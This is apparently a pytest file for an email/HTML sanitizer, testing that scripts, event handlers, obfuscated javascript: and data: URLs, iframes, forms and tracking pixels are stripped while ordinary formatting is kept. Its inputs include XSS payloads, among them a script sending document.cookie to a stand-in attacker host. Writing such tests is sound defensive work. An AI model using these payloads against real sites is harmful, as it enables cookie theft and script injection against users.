"""comms.sanitize: inbound HTML never runs code, never tracks, keeps ordinary formatting."""

import pytest

from comms.sanitize import escaped_paragraphs, safe_html


def test_script_is_removed_with_its_content():
    cleaned = safe_html("<p>Hi</p><script>document.location='https://evil.example/?'+document.cookie</script>")

    assert cleaned == "<p>Hi</p>"


@pytest.mark.parametrize(
    "html",
    [
        '<p onclick="alert(1)">Hi</p>',
        '<body onload="alert(1)"><p>Hi</p></body>',
        "<p><img src=x onerror=alert(1)>Hi</p>",
        '<p><a href="https://x.example" onmouseover="alert(1)">Hi</a></p>',
        '<svg onload="alert(1)"><p>Hi</p></svg>',
    ],
)
def test_event_handlers_are_removed(html):
    cleaned = safe_html(html)

    assert "Hi" in cleaned
    assert "alert" not in cleaned
    assert " on" not in cleaned


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java&#x09;script:alert(1)",
        "&#106;avascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ],
)
def test_javascript_and_data_urls_are_removed(href):
    cleaned = safe_html(f'<a href="{href}">Click</a>')

    assert "href" not in cleaned
    assert "script" not in cleaned.lower()
    assert "Click" in cleaned


def test_ordinary_links_are_kept_and_open_safely():
    cleaned = safe_html(
        '<a href="https://client.example/brief" target="_self">Brief</a> <a href="mailto:a@b.example">m</a>'
    )

    assert 'href="https://client.example/brief"' in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned
    assert 'target="_blank"' in cleaned
    assert 'target="_self"' not in cleaned
    assert 'href="mailto:a@b.example"' in cleaned


@pytest.mark.parametrize(
    "html",
    [
        '<iframe src="https://evil.example/frame">fallback</iframe>',
        '<object data="https://evil.example/x.swf">fallback</object>',
        '<embed src="https://evil.example/x.swf">',
        '<frameset><frame src="https://evil.example/"></frameset>',
        '<form action="https://evil.example/phish"><input name="password"></form>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<base href="https://evil.example/">',
    ],
)
def test_iframes_objects_embeds_forms_are_removed(html):
    cleaned = safe_html(f"<p>Hi</p>{html}")

    assert "evil.example" not in cleaned
    for tag in ("<iframe", "<object", "<embed", "<frame", "<form", "<input", "<meta", "<link", "<base"):
        assert tag not in cleaned


def test_remote_tracking_images_are_dropped_and_alt_text_kept():
    cleaned = safe_html(
        '<p>Hi</p><img src="https://tracker.example/open.gif?u=42" width="1" height="1">'
        '<img src="https://cdn.client.example/logo.png" alt="Our logo">'
        '<img srcset="https://tracker.example/a.png 1x" alt="">'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">'
    )

    assert "<img" not in cleaned
    assert "tracker.example" not in cleaned
    assert "cdn.client.example" not in cleaned
    assert "data:" not in cleaned
    assert cleaned == "<p>Hi</p>[Our logo][inline]"


def test_alt_text_cannot_smuggle_markup():
    cleaned = safe_html('<img src="https://x.example/a.png" alt="<script>alert(1)</script>">')

    assert "<script" not in cleaned
    assert cleaned == "[&lt;script&gt;alert(1)&lt;/script&gt;]"


@pytest.mark.parametrize(
    "html",
    [
        '<div style="background:url(https://tracker.example/bg.gif)">Hi</div>',
        "<style>p{background:url(https://tracker.example/bg.gif)}</style><div>Hi</div>",
        '<table background="https://tracker.example/bg.gif"><tr><td>Hi</td></tr></table>',
        '<video poster="https://tracker.example/p.gif">Hi</video>',
        '<div class="x" id="y">Hi</div>',
    ],
)
def test_styles_and_other_remote_loads_are_removed(html):
    cleaned = safe_html(html)

    assert "Hi" in cleaned
    assert "tracker.example" not in cleaned
    assert "style" not in cleaned
    assert "class=" not in cleaned


def test_ordinary_formatting_survives():
    html = (
        "<h1>Title</h1><p>Some <b>bold</b>, <strong>strong</strong>, <i>i</i> and <em>em</em>.<br>Next line</p>"
        "<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>quoted</blockquote><pre><code>x = 1</code></pre>"
        '<table><thead><tr><th>h</th></tr></thead><tbody><tr><td colspan="2">c</td></tr></tbody></table>'
        "<div><span>span</span></div>"
    )

    assert safe_html(html) == html


def test_a_full_document_keeps_only_its_body():
    assert safe_html("<html><head><title>T</title></head><body><p>Hello</p></body></html>") == "<p>Hello</p>"


@pytest.mark.parametrize("html", ["", "   ", "<script>x()</script>"])
def test_nothing_left(html):
    assert safe_html(html) == ""


def test_escaped_paragraphs_escapes_and_keeps_line_breaks():
    assert escaped_paragraphs("Hi <b>Ann</b> & co,\nline two\n\nNext paragraph") == (
        "<p>Hi &lt;b&gt;Ann&lt;/b&gt; &amp; co,<br>\nline two</p>\n<p>Next paragraph</p>"
    )
